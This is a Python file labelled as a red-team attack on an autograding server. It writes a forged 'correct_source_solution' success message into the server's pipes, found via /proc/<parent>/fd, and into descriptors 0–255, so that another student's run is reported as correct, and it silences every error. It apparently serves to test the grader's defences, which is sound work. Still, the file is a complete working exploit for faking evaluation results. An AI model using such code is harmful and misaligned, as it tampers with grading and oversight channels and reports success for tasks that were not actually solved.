# Red-team attack 15 (issue 8): speak for the server about another student's run.
# The server tells the grader on its stdout when a worker ends, one JSON line per message. This
# cell writes `{"key": "correct_source_solution", "end": "ok"}` into the pipes its parent (the
# server) writes to, found through /proc/<parent>/fd (every pipe but the server's stdin), and
# to every descriptor from 0 to 255 it holds itself, while the victim is still running. Each
# write fails silently.

import json as _json

LINE = _json.dumps({"key": "correct_source_solution", "end": "ok"}).encode() + b"\n"


def _server_reply_pipes():
    import os

    parent = os.getppid()
    pipes = []
    try:
        descriptors = os.listdir(f"/proc/{parent}/fd")
    except Exception:
        return pipes
    for fd in descriptors:
        try:
            if fd != "0" and os.readlink(f"/proc/{parent}/fd/{fd}").startswith("pipe:"):
                pipes.append(f"/proc/{parent}/fd/{fd}")
        except Exception:
            pass
    return pipes


def _forge():
    import os

    for path in _server_reply_pipes():
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            try:
                os.write(fd, LINE)
            finally:
                os.close(fd)
        except Exception:
            pass
    for fd in range(256):
        try:
            os.write(fd, LINE)
        except Exception:
            pass


try:
    _forge()
except Exception:
    pass
